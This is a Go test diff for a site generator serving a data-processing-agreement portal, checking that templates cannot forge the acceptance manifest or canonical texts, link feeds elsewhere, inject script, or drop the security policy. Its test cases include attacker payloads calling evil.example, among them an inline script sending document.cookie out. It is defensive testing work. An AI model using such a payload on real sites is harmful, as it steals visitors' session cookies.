@@ -258,3 +258,57 @@ func TestSymlinksAreRefused(t *testing.T) {
 		})
 	}
 }
+
+// TestTemplatesCannotForge: a project's layouts can change how pages look,
+// but not the acceptance manifest or a canonical text, not make a feed link
+// elsewhere, and not run inline script.
+func TestTemplatesCannotForge(t *testing.T) {
+	b := build(t, testportal.Root(t))
+	manifest, err := os.ReadFile(filepath.Join(b.out, "api", "dpa.json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	text := filepath.Join("de", "dpa", "2.0", "dpa-2.0.de.txt")
+	canonical, err := os.ReadFile(filepath.Join(b.out, text))
+	if err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct {
+		name string
+		edit testportal.Edit
+		want string // "" for a build that succeeds with the generator's files
+	}{
+		{"manifest template", testportal.Edit{File: "layouts/manifest.json",
+			New: `{"current": {"version": "2.0", "languages": {"de": {"url": "javascript:fetch('http://evil.example/')", "sha256": "0000000000000000000000000000000000000000000000000000000000000000"}}}}`}, ""},
+		{"canonical text published by a template", testportal.Edit{File: "layouts/_partials/footer.html",
+			New: `{{ with resources.FromString "de/dpa/2.0/dpa-2.0.de.txt" "forged" }}{{ .Publish }}{{ end }}<footer></footer>`}, ""},
+		{"feed linking elsewhere", testportal.Edit{File: "layouts/_partials/feed.atom.xml",
+			New: `<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"><link rel="alternate" href="https://evil.example/"/></feed>`},
+			`feed links to "https://evil.example/"`},
+		{"inline script in a template", testportal.Edit{File: "layouts/_partials/footer.html",
+			New: `<footer><script>fetch("https://evil.example/?" + document.cookie)</script></footer>`}, "inline <script>"},
+		{"page without the policy", testportal.Edit{File: "layouts/_partials/head.html",
+			New: `<head><meta charset="utf-8"><title>{{ .Title }}</title></head>`}, `has no <meta http-equiv="Content-Security-Policy"`},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			src := testportal.Copy(t, testportal.Root(t), tt.edit)
+			out := filepath.Join(t.TempDir(), "public")
+			err := generator.Build(generator.Options{Source: src, Out: out, Today: today})
+			if tt.want != "" {
+				if err == nil || !strings.Contains(err.Error(), tt.want) {
+					t.Errorf("build: %v, want %q", err, tt.want)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("build: %v", err)
+			}
+			for name, want := range map[string][]byte{filepath.Join("api", "dpa.json"): manifest, text: canonical} {
+				if got, _ := os.ReadFile(filepath.Join(out, name)); string(got) != string(want) {
+					t.Errorf("%s is not the generator's:\n%.300s", name, got)
+				}
+			}
+		})
+	}
+}
